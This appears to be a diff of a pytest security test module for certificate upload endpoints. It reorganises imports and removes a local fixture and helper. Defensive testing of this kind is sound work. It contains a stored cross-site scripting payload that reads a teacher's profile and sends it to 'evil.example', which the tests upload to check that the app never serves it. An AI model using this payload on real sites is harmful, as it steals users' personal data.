@@ -8,23 +8,14 @@ import pytest
 from sqlalchemy import select
 
 from cpp_app.models import CourseRecord
+from tests.factories import text
 from tests.security.uploads_common import UPLOADS, files_under, post_file, sample_image, sample_pdf, xlsx_with_sheet
-from tests.security.world import build_world, database_state, switch_user
+from tests.security.world import database_state, switch_user
 
 CERTIFICATE_UPLOADS = ["cabinet.course_external_new", "cabinet.course_external_edit"]
 # What a browser would run if the file were ever shown as a page: read the teacher's profile, send it away.
 SCRIPT = (b"<html><body><script>fetch('/cabinet/profile').then(r => r.text())"
           b".then(t => { new Image().src = 'https://evil.example/?' + encodeURIComponent(t) })</script></body></html>")
-
-
-@pytest.fixture
-def world(app, database, make_user, tmp_path, monkeypatch):
-    monkeypatch.setattr(app, "instance_path", str(tmp_path))
-    return build_world(database, make_user)
-
-
-def text(response) -> str:
-    return response.get_data(as_text=True)
 
 
 @pytest.mark.parametrize("endpoint", CERTIFICATE_UPLOADS)
